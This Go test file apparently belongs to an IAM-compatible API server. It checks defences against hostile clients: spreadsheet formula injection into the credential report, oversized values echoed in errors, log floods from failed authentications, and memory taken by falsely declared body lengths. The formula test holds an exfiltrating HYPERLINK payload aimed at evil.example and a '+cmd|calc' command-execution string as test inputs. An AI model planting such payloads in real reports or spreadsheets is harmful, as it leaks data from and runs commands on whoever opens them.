package query_test

// Tests of what an attacker or a hostile client controls: what reaches the
// credential report, how much of a request comes back in an error, how
// much a flood of failed authentications writes to the log, how much
// memory a body's declared length takes.

import (
	"bytes"
	"context"
	"encoding/xml"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/keyward/keyward/internal/kwtest"
)

// TestReportHoldsNoFormula: a key holder cannot plant a spreadsheet formula
// in the credential report through the region or service of its signature,
// and a user name that starts like a formula is defused.
func TestReportHoldsNoFormula(t *testing.T) {
	ts := newAPIServer(t)
	root := ts.RootIAM()
	ctx := context.Background()
	id, secret := createUserKey(t, root, "mallory")
	_, _ = createUserKey(t, root, "=1+1")

	formula := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	listKeys := "Action=ListAccessKeys&Version=2010-05-08"
	for name, tc := range map[string]struct{ service, region, code string }{
		// A slash breaks the credential scope itself.
		"URL formula as region":  {"iam", formula, "IncompleteSignature"},
		"URL formula as service": {formula, "us-east-1", "IncompleteSignature"},
		"formula as region":      {"iam", `=HYPERLINK("evil")`, "SignatureDoesNotMatch"},
		"formula as service":     {`=HYPERLINK("evil")`, "us-east-1", "InvalidAction"},
		"plus as region":         {"iam", "+cmd|calc", "SignatureDoesNotMatch"},
		"unknown service":        {"s3", "us-east-1", "InvalidAction"},
	} {
		t.Run(name, func(t *testing.T) {
			status, _, body := rawDo(t, kwtest.SignedFor(t, ts.URL, listKeys, tc.service, tc.region, id, secret))
			var e errorResponse
			must(t, xml.Unmarshal([]byte(body), &e))
			if status < 400 || e.Error.Code != tc.code {
				t.Fatalf("status %d, %+v; want %s", status, e.Error, tc.code)
			}
		})
	}
	ts.Uses.Flush(ctx)
	used, err := root.GetAccessKeyLastUsed(ctx, &iam.GetAccessKeyLastUsedInput{AccessKeyId: aws.String(id)})
	must(t, err)
	if u := used.AccessKeyLastUsed; u.LastUsedDate != nil || aws.ToString(u.Region) != "N/A" || aws.ToString(u.ServiceName) != "N/A" {
		t.Fatalf("refused requests recorded as a use: %s %s", aws.ToString(u.ServiceName), aws.ToString(u.Region))
	}
	// A request in a real region is recorded as it is.
	status, _, body := rawDo(t, kwtest.SignedFor(t, ts.URL, listKeys, "iam", "eu-central-2", id, secret))
	if status != http.StatusForbidden || !strings.Contains(body, "AccessDenied") {
		t.Fatalf("a signed request in eu-central-2: %d %s", status, body)
	}

	ts.WaitForReport(t, root)
	out, err := root.GetCredentialReport(ctx, &iam.GetCredentialReportInput{})
	must(t, err)
	rows := reportRows(t, out.Content)
	if m := rows["mallory"]; m["access_key_1_last_used_region"] != "eu-central-2" || m["access_key_1_last_used_service"] != "iam" {
		t.Fatalf("mallory's row %v", m)
	}
	if _, ok := rows["'=1+1"]; !ok {
		t.Fatalf("the user =1+1 is not in the report as '=1+1: %s", out.Content)
	}
	for user, row := range rows {
		for col, v := range row {
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
				t.Errorf("%s's %s starts a formula: %q", user, col, v)
			}
		}
	}
}

// TestErrorsClipEchoedValues: a 100 KB value comes back cut, not whole.
func TestErrorsClipEchoedValues(t *testing.T) {
	ts := newAPIServer(t)
	huge := strings.Repeat("a", 100<<10)
	for name, form := range map[string]string{
		"user name":  "Action=CreateUser&Version=2010-05-08&UserName=" + huge,
		"action":     "Action=" + huge + "&Version=2010-05-08",
		"version":    "Action=ListUsers&Version=" + huge,
		"policy ARN": "Action=GetPolicy&Version=2010-05-08&PolicyArn=" + url.QueryEscape("arn:aws:iam::123456789012:policy/"+huge),
		"tag values": "Action=CreateUser&Version=2010-05-08&UserName=t" + strings.Repeat("&Tags.member.1.Key=k&Tags.member.1.Value="+huge[:300], 1),
	} {
		t.Run(name, func(t *testing.T) {
			status, _, body := rawDo(t, kwtest.SignedFor(t, ts.URL, form, "iam", "us-east-1", rootKeyID, rootSecret))
			if status != http.StatusBadRequest {
				t.Fatalf("status %d: %.300s", status, body)
			}
			if len(body) > 2048 {
				t.Fatalf("a %d KB value came back in a %d-byte error: %.300s", len(form)>>10, len(body), body)
			}
			if !strings.Contains(body, "...") {
				t.Fatalf("the echoed value is not marked as cut: %s", body)
			}
		})
	}
	// The header of a garbled signature is echoed cut too.
	r := kwtest.SignedFor(t, ts.URL, "Action=ListUsers&Version=2010-05-08", "iam", "us-east-1", rootKeyID, rootSecret)
	r.Header.Set("Authorization", "AWS4-HMAC-SHA256 Credential="+rootKeyID+"/x, Junk="+strings.Repeat("j", 60<<10))
	status, _, body := rawDo(t, r)
	if status != http.StatusForbidden || len(body) > 2048 {
		t.Fatalf("garbled Authorization: %d, %d bytes", status, len(body))
	}
}

// TestAuthFailureLog: failed authentications are logged with the key ID
// and the client's address, within a budget; a flood of them is summed up
// in one line per interval instead of one line each (146 MB a minute once).
func TestAuthFailureLog(t *testing.T) {
	ts := newAPIServer(t)
	listUsers := "Action=ListUsers&Version=2010-05-08"
	client := &http.Client{}
	before := len(ts.Log.String())
	const flood = 600
	for i := range flood {
		var r *http.Request
		switch i % 3 {
		case 0: // a wrong secret
			r = kwtest.SignedFor(t, ts.URL, listUsers, "iam", "us-east-1", rootKeyID, "wrong"+rootSecret[5:])
		case 1: // an unknown key
			r = kwtest.SignedFor(t, ts.URL, listUsers, "iam", "us-east-1", "AKIAUNKNOWNKEY000000", rootSecret)
		default: // a made-up, long key ID
			r = kwtest.SignedFor(t, ts.URL, listUsers, "iam", "us-east-1", "akia-"+strings.Repeat("x", 200), rootSecret)
		}
		resp, err := client.Do(r)
		must(t, err)
		resp.Body.Close()
		if resp.StatusCode != http.StatusForbidden {
			t.Fatalf("request %d: %d", i, resp.StatusCode)
		}
	}
	log := ts.Log.String()[before:]
	lines := strings.Count(log, "authentication failed")
	if lines == 0 || lines > 50 {
		t.Fatalf("%d failure lines for %d failures", lines, flood)
	}
	for _, line := range strings.Split(log, "\n") {
		if strings.Contains(line, "authentication failed") && (!strings.Contains(line, "client=127.0.0.1") || !strings.Contains(line, "key_id=")) {
			t.Fatalf("a failure line without key ID or client: %s", line)
		}
	}
	if !strings.Contains(log, "key_id=AKIAUNKNOWNKEY000000") || !strings.Contains(log, "key_id="+rootKeyID) || strings.Contains(log, strings.Repeat("x", 30)) {
		t.Fatalf("key IDs not logged as they should be:\n%s", log)
	}
	if strings.Contains(log, "msg=request ") {
		t.Fatal("unauthenticated requests also wrote a request line each")
	}
	ts.Clock.Add(11 * time.Second)
	ts.API.FlushAuthLog()
	summary := ts.Log.String()[before:]
	if !strings.Contains(summary, "authentication failures not logged") || !strings.Contains(summary, fmt.Sprintf("count=%d", flood-lines)) ||
		!strings.Contains(summary, "127.0.0.1=") {
		t.Fatalf("no summary of the %d failures not logged:\n%s", flood-lines, summary[len(log):])
	}
	t.Logf("%d failed authentications: %d log lines, %d bytes of log", flood, lines+1, len(summary))
}

// partBody is a request body that yields data and then end, whatever
// length the request declared.
type partBody struct {
	r   *bytes.Reader
	end error
}

func (b *partBody) Read(p []byte) (int, error) {
	if b.r.Len() == 0 {
		return 0, b.end
	}
	return b.r.Read(p)
}

func (*partBody) Close() error { return nil }

// TestBodyAllocatedAsItArrives: before any authentication, a client
// declares a body of 1 MiB (the most the API takes) and sends a few bytes,
// then stops or breaks the connection. Had the server made room for the
// declared length first, each such request would cost it 1 MiB that the
// client never pays for in bytes sent: 200 of them held 200 MiB. Room is
// made for what arrives, and from the declared length only within a small
// bound; a body that does send more than 1 MiB is still refused. What the
// server allocates is measured over a few requests (TotalAlloc counts
// every allocation, whenever the collector runs).
func TestBodyAllocatedAsItArrives(t *testing.T) {
	ts := newAPIServer(t)
	const requests = 8
	tooLong := bytes.Repeat([]byte("a"), 1<<20+1)
	for _, tc := range []struct {
		name     string
		declared int64
		sent     []byte
		end      error
		code     string
		// most is the most a request may allocate; 0 for no bound, when
		// the client sends what it declares.
		most uint64
	}{
		{"declares 1 MiB, sends 8 bytes and breaks off", 1 << 20, []byte("Action=L"), io.ErrUnexpectedEOF, "MalformedQueryString", 256 << 10},
		{"declares 1 MiB, sends 8 bytes and ends", 1 << 20, []byte("Action=L"), io.EOF, "MissingAuthenticationToken", 256 << 10},
		{"sends more than 1 MiB", int64(len(tooLong)), tooLong, io.EOF, "MalformedQueryString", 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			for range requests {
				r := httptest.NewRequest("POST", "/", nil)
				r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
				r.Body, r.ContentLength = &partBody{bytes.NewReader(tc.sent), tc.end}, tc.declared
				w := httptest.NewRecorder()
				ts.API.ServeHTTP(w, r)
				if w.Code < 400 || !strings.Contains(w.Body.String(), "<Code>"+tc.code+"</Code>") {
					t.Fatalf("got %d %s, want %s", w.Code, w.Body, tc.code)
				}
			}
			runtime.ReadMemStats(&after)
			if per := (after.TotalAlloc - before.TotalAlloc) / requests; tc.most != 0 && per > tc.most {
				t.Fatalf("%d KiB allocated per request, more than %d KiB", per>>10, tc.most>>10)
			}
		})
	}
}
